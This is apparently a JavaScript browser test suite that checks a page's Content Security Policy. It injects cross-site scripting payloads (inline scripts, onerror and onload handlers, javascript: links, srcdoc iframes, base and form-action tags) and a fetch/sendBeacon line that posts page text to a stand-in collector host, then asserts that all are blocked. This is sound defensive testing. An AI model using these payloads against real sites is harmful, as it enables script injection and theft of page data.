// What the browser is let do with the page (Content Security Policy), whatever gets into it.
import assert from "node:assert/strict";
import { test } from "node:test";
import { visit } from "./browser.mjs";
import { PAGE } from "./machine.mjs";

/** Opens the page with `more` in its body, as if something in what it shows had not been escaped; the headers stay. */
const opened = (more, look) => visit({ at: "about:blank" }, async (page, told) => {
  await page.route(PAGE, async (route) => {
    const answer = await route.fetch();
    const text = await answer.text();
    assert(text.includes("<main>"));
    await route.fulfill({ response: answer, body: text.replace("<main>", `<main>${more}`) });
  });
  await page.goto(PAGE);
  await look(page);
  // Each is told, and none of it was done.
  const refused = told.splice(0).filter((one) => !one.startsWith("asks elsewhere: http://127.0.0.1"));
  return refused.filter((one) => /Content Security Policy/.test(one)).length;
});

const marks = (page) => page.evaluate(() => ({ title: document.title, ran: window.ran ?? 0 }));
const UNTOUCHED = { title: "Nexus: who owns what", ran: 0 };

// attack 106 Q: a script, a handler and an address of a script that got into the page, in a browser; none of them runs, and its own script does
test("a script that got into the page does not run", async () => {
  const more = "<script>window.ran = 1; document.title = 'taken';</script>" +
    "<script src='/alive'></script><img src='x' onerror='window.ran = 2'><svg onload='window.ran = 3'></svg>" +
    "<a id='trap' href='javascript:window.ran = 4'>x</a><iframe srcdoc='<script>parent.ran = 5</script>'></iframe>";
  const refused = await opened(more, async (page) => {
    await page.locator("#trap").click();
    // The page's own script runs: it has asked, and said so.
    await page.locator("#pulse.live").waitFor();
    assert.deepEqual(await marks(page), UNTOUCHED);
  });
  assert(refused >= 5, `${refused} refusals`);
});

// attack 106 Q: a style, a form, a base and a picture from elsewhere that got into the page, in a browser; none of them does anything
test("a style, a form or a picture that got into the page does nothing", async () => {
  const more = "<style>main { display: none }</style><p id='styled' style='position: fixed; inset: 0'>x</p>" +
    "<base href='http://127.0.0.1:9/'><link rel='stylesheet' href='http://127.0.0.1:9/a.css'>" +
    "<img id='spy' src='http://127.0.0.1:9/spy'><form action='http://127.0.0.1:9/'><button id='send'>x</button></form>";
  const refused = await opened(more, async (page) => {
    assert(await page.locator("#ledger").isVisible());
    assert.equal(await page.locator("#styled").evaluate((one) => getComputedStyle(one).position), "static");
    assert.equal(await page.evaluate(() => document.baseURI), PAGE);
    assert.equal(await page.locator("#spy").evaluate((one) => one.naturalWidth), 0);
    assert.deepEqual(await marks(page), UNTOUCHED);
    // Last: for the driver a form that is sent is a page that is about to come.
    await Promise.all([
      page.waitForEvent("console", (one) => /form-action/.test(one.text())),
      page.locator("#send").evaluate((one) => one.click()),
    ]);
    assert.equal(page.url(), PAGE);
  });
  assert(refused >= 5, `${refused} refusals`);
});

// attack 106 Q: a script in the console of the page's own origin, as one that got in would be, sends what it reads elsewhere; the browser does not let it
test("what is on the page is not sent elsewhere", async () => {
  await visit({}, async (page, told) => {
    const sent = await page.evaluate(async () => {
      const text = document.body.innerText;
      const asked = await fetch("http://127.0.0.1:9/take", { method: "POST", body: text, mode: "no-cors" }).then(() => "sent", () => "not sent");
      const beacon = new Promise((done) => addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true }));
      navigator.sendBeacon("http://127.0.0.1:9/take", text);
      return [asked, await beacon];
    });
    assert.deepEqual(sent, ["not sent", "connect-src"]);
    assert(told.splice(0).every((one) => /Content Security Policy|127.0.0.1:9/.test(one)));
  });
});

test("a page that is left alone has nothing to complain of, and asks nobody but the machine", async () => {
  // What `visit` holds for every test, over several of the script's own questions.
  const asked = await visit({}, async (page) => {
    const questions = [];
    page.on("response", (answer) => questions.push([answer.status(), new URL(answer.url()).pathname]));
    for (let count = 0; count < 2; count += 1) await page.waitForResponse((one) => one.url() === `${PAGE}api`);
    return questions;
  });
  assert(asked.length >= 2);
  assert.deepEqual(asked.filter(([status, path]) => status !== 200 || path !== "/api"), []);
});
